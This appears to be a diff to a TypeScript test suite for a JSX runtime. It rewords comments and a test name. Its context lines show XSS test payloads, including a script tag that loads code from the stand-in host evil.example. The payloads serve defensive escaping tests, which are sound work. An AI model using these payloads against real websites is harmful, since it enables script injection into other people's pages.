@@ -3,7 +3,7 @@ import { type Child, Fragment, jsx, type Markup, raw } from '#jsx/jsx-runtime'
 
 const HOSTILE = `<script>alert(1)</script>`
 
-/** Old acquaintances: what a scanner types into every field. */
+/** What XSS scanners enter into every field. */
 const PAYLOADS = [
   HOSTILE,
   `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
@@ -181,7 +181,7 @@ describe('JSX attributes', () => {
   )
 
   test.each([{ value: {} }, { value: [HOSTILE] }, { value: raw('x') }, { value: () => 1 }, { value: Symbol('x') }])(
-    'a value that is no text is refused (case %#)',
+    'a value that is not text is refused (case %#)',
     ({ value }) => {
       expect(() => jsx('p', { title: value })).toThrow('needs text')
     },
@@ -280,7 +280,7 @@ interface Parsed {
   text: string
 }
 
-/** Reads markup as a browser does: every element there is, with its attributes and its text. */
+/** Parses markup like a browser: all elements with their attributes and text. */
 function parse(markup: Markup): Parsed[] {
   const elements: Parsed[] = []
   const rewriter = new HTMLRewriter().onDocument({
